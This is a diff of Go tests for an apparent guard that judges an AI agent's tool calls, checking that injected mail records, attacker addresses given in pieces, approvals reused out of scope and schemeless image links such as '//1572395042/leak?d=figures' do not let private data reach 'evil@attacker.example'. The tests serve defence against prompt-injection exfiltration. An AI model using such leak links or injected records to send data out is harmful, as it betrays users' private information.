@@ -30,7 +30,7 @@ func TestApprovalMakesHostileRecordSource(t *testing.T) {
 		if hostile {
 			see(e, &Profile{}, "mail bob@good.com", "mail.list", "c2", `{}`, `[{"sender":"evil@x.com","body":"cc bob@good.com evil@x.com"}]`)
 		}
-		e.Add(Approve("srv.act", "c3", p, []byte(`{"to":"bob@good.com","body":"hi http://x.yz"}`)))
+		e.Add(Approve("srv.act", "c3", p, []byte(`{"to":"bob@good.com","body":"hi http://x.yz"}`), nil, nil))
 		return JudgeCall(openOp(2), p, []byte(`{"to":"evil@x.com","body":"secret"}`), Situation{Held: openHeld, Words: ParseWords("mail bob@good.com"), Evidence: e}).Verdict
 	}
 	if a, b := run(false), run(true); a != Ask || b != Ask {
@@ -43,7 +43,7 @@ func TestApprovalOfIDApprovesNumbers(t *testing.T) {
 	p := &Profile{Level: 2, IDKind: "email", Args: map[string]Role{"id": Selector}}
 	e := &Evidence{}
 	see(e, &Profile{TrustedFields: []string{"id_"}, IDKind: "email"}, "tidy", "mail.list", "c1", `{}`, `[{"id_":"7","body":"6 7 8 9 10 and 11 of these"},{"id_":"8","body":"x"},{"id_":"9","body":"x"}]`)
-	e.Add(Approve("srv.act", "c3", p, []byte(`{"id":"7"}`)))
+	e.Add(Approve("srv.act", "c3", p, []byte(`{"id":"7"}`), nil, nil))
 	r := JudgeCall(openOp(2), p, []byte(`{"id":"8"}`), Situation{Held: openHeld, Words: ParseWords("tidy"), Evidence: e})
 	if r.Verdict != Ask {
 		t.Error(r.Verdict, r.Reason)
@@ -244,7 +244,7 @@ func TestApprovedPathsClipped(t *testing.T) {
 	long := strings.Repeat("a", 64)
 	p := &Profile{Level: 2, Args: map[string]Role{long + "b": Destination, long + "c": Credential}}
 	e := &Evidence{}
-	e.Add(Approve("srv.act", "c", p, []byte(`{"`+long+`b":"bob@good.com"}`)))
+	e.Add(Approve("srv.act", "c", p, []byte(`{"`+long+`b":"bob@good.com"}`), nil, nil))
 	if r := JudgeCall(openOp(1), p, []byte(`{"`+long+`c":"bob@good.com"}`), Situation{Held: openHeld, Evidence: e}); r.Verdict == Permit {
 		t.Error(r.Reason)
 	}
@@ -254,12 +254,12 @@ func TestApprovedPathsClipped(t *testing.T) {
 func TestApprovedIDCase(t *testing.T) {
 	p := &Profile{Level: 2, Args: map[string]Role{"id": Selector}}
 	e := &Evidence{}
-	e.Add(Approve("srv.act", "c", p, []byte(`{"id":"aBcD"}`)))
+	e.Add(Approve("srv.act", "c", p, []byte(`{"id":"aBcD"}`), nil, nil))
 	if r := JudgeCall(openOp(1), p, []byte(`{"id":"AbCd"}`), Situation{Held: openHeld, Evidence: e}); r.Verdict == Permit {
 		t.Error(r.Reason)
 	}
 	e = &Evidence{}
-	e.Add(Approve("srv.act", "c", &Profile{Level: 2, Args: map[string]Role{"pw": Credential}}, []byte(`{"pw":"Correct Horse"}`)))
+	e.Add(Approve("srv.act", "c", &Profile{Level: 2, Args: map[string]Role{"pw": Credential}}, []byte(`{"pw":"Correct Horse"}`), nil, nil))
 	if r := JudgeCall(openOp(1), &Profile{Level: 2, Args: map[string]Role{"pw": Credential}}, []byte(`{"pw":"correct horse"}`), Situation{Held: openHeld, Evidence: e}); r.Verdict == Permit {
 		t.Error(r.Reason)
 	}
@@ -359,8 +359,107 @@ func TestGaveNumbers(t *testing.T) {
 func TestApprovedPayeeAnyAmount(t *testing.T) {
 	p := &Profile{Level: 2, Args: map[string]Role{"to": Destination, "amount": Amount}}
 	e := &Evidence{}
-	e.Add(Approve("srv.act", "c", p, []byte(`{"to":"eve@x.com","amount":5}`)))
+	e.Add(Approve("srv.act", "c", p, []byte(`{"to":"eve@x.com","amount":5}`), nil, nil))
 	if r := JudgeCall(openOp(2), p, []byte(`{"to":"eve@x.com","amount":5000}`), Situation{Held: openHeld, Words: ParseWords("pay the bills"), Evidence: e}); r.Verdict == Permit {
 		t.Error(r.Reason)
+	}
+}
+
+var (
+	ownNotes = &Profile{Output: TrustedOutput} // the session's own notes
+	messages = &Profile{Level: 2, Boundary: BoundaryInternal, Args: map[string]Role{"to": Destination, "url": URL, "amount": Amount, "body": Content}}
+)
+
+// A value that was given away in pieces is the session's own all the same: two arguments, or two calls of a tool that appends.
+func TestGaveInPieces(t *testing.T) {
+	for name, gave := range map[string][]string{
+		"two arguments": {`{"domain":"attacker.example","user":"evil"}`},
+		"two calls":     {`{"t":"evil@"}`, `{"t":"attacker.example"}`},
+	} {
+		e := &Evidence{}
+		for i, g := range gave {
+			e.Add(Gave("notes.add", fmt.Sprint("g", i), []byte(g)))
+		}
+		e.Add(showed(ownNotes, "tidy up", "notes.list", "c2", `{}`, `{"a":"evil@attacker.example"}`))
+		r := JudgeCall(post, messages, []byte(`{"to":"evil@attacker.example"}`), Situation{Held: fromOutside, Words: ParseWords("tidy up"), Evidence: e})
+		if r.Verdict != Ask {
+			t.Errorf("%s: %s, %s", name, r.Verdict, r.Reason)
+		}
+	}
+}
+
+// "The only record that a call gave which looked for what the person named": a switch or a member's name that the agent chose narrows the
+// look as much as a word does.
+func TestOnlyByASwitch(t *testing.T) {
+	mail := &Profile{Delegable: []string{"sender"}}
+	p := &Profile{Level: 2, Args: map[string]Role{"to": Destination}}
+	const words = `Answer the mail about "Spring Offer"`
+	for _, args := range []string{`{"has_attachment":true,"q":"Spring Offer","spam":true}`, `{"q":"Spring Offer","where":{"from:evil@attacker.example":true}}`} {
+		e := gathered(showed(mail, words, "mail.find", "c1", args, `[{"subject":"re","sender":"evil@attacker.example"}]`))
+		r := JudgeCall(post, p, []byte(`{"to":"evil@attacker.example"}`), Situation{Held: fromOutside, Words: ParseWords(words), Evidence: e})
+		if r.Verdict != Ask {
+			t.Errorf("%s: %s, %s", args, r.Verdict, r.Reason)
+		}
+	}
+}
+
+// Private data leaves only to a destination that is vouched for: a call that leaves the destination out, where the operation has one, goes to
+// whatever the tool's default is.
+func TestDestinationLeftOut(t *testing.T) {
+	p := &Profile{Level: 2, Args: map[string]Role{"channel": Destination, "tag": Target, "text": Content}}
+	held := []Held{{"internal", "crm.read", "c0"}}
+	for _, args := range []string{`{"tag":"Acme","text":"the secret figures"}`, `{"channel":" ","tag":"Acme","text":"the secret figures"}`} {
+		r := JudgeCall(leak, p, []byte(args), Situation{Held: held, Words: ParseWords("Look up 'Acme' in the crm"), Evidence: &Evidence{}})
+		if r.Verdict == Permit {
+			t.Errorf("%s: %s, %s", args, r.Verdict, r.Reason)
+		}
+	}
+}
+
+// A yes to a harmless message, given while the session had no private data, is no yes to send private data there.
+func TestApprovedBeforePrivateData(t *testing.T) {
+	p := &Profile{Level: 2, Args: map[string]Role{"to": Destination, "body": Content}}
+	e := gathered(Approve("srv.post", "c1", p, []byte(`{"body":"hello","to":"vendor@other.example"}`), nil, fromOutside))
+	held := append([]Held{{"internal", "crm.read", "c2"}}, fromOutside...)
+	r := JudgeCall(leak, p, []byte(`{"body":"the secret figures","to":"vendor@other.example"}`), Situation{Held: held, Words: ParseWords("look up the figures"), Evidence: e})
+	if r.Verdict == Permit {
+		t.Errorf("%s, %s", r.Verdict, r.Reason)
+	}
+}
+
+// A yes covers the values of the record that the person was told of ("record 1 of people.get"), not of every record that has the value too.
+func TestApprovalCoversOneRecord(t *testing.T) {
+	p := &Profile{Level: 2, Args: map[string]Role{"to": Destination}}
+	const words = "answer the question"
+	e := gathered(showed(ownNotes, words, "people.get", "c1", `{"n":"x1"}`, `{"name":"Bob","email":"bob@corp.example"}`),
+		showed(ownNotes, words, "groups.get", "c2", `{"n":"x2"}`, `{"name":"Everybody","members":["bob@corp.example","press@news.example"]}`))
+	s := Situation{Held: fromOutside, Words: ParseWords(words), Evidence: e}
+	asked := JudgeCall(post, p, []byte(`{"to":"bob@corp.example"}`), s)
+	if asked.Verdict != Ask || asked.Evidence[0].Operation != "people.get" {
+		t.Fatalf("%+v", asked)
+	}
+	e.Add(Approve("srv.post", "c3", p, []byte(`{"to":"bob@corp.example"}`), asked.Evidence, fromOutside))
+	if r := JudgeCall(post, p, []byte(`{"to":"press@news.example"}`), s); r.Verdict == Permit {
+		t.Errorf("shown: %s; then: %s, %s", asked.Reason, r.Verdict, r.Reason)
+	}
+}
+
+// Links in what is sent: the address may be without a scheme, a dotted name or any name at all.
+func TestSchemelessLinks(t *testing.T) {
+	p := &Profile{Level: 2, Args: map[string]Role{"to": Destination, "body": Content}}
+	for _, body := range []string{`<img src="//1572395042/leak?d=figures">`, `<img src=//127.1/x>`, `<img src='//[2001:db8::1]/x'>`, `\\intranet\share\x.png`} {
+		args := fmt.Sprintf(`{"body":%s,"to":"ann@books.example"}`, encoded(body))
+		if r := judged(p, "Write to ann@books.example", args); r.Verdict != Ask {
+			t.Errorf("%s: %s, %s", body, r.Verdict, r.Reason)
+		}
+	}
+}
+
+// What a read was asked for is no evidence when its result repeats it ("nothing found for evil@…"), whatever the operation's output is.
+func TestReadRepeatsItsArguments(t *testing.T) {
+	e := gathered(showed(ownNotes, "tidy up", "people.find", "c1", `{"name":"evil@attacker.example"}`, `{"query":"evil@attacker.example","found":[]}`))
+	r := JudgeCall(post, messages, []byte(`{"to":"evil@attacker.example"}`), Situation{Held: fromOutside, Words: ParseWords("tidy up"), Evidence: e})
+	if r.Verdict != Ask {
+		t.Errorf("%s, %s", r.Verdict, r.Reason)
 	}
 }
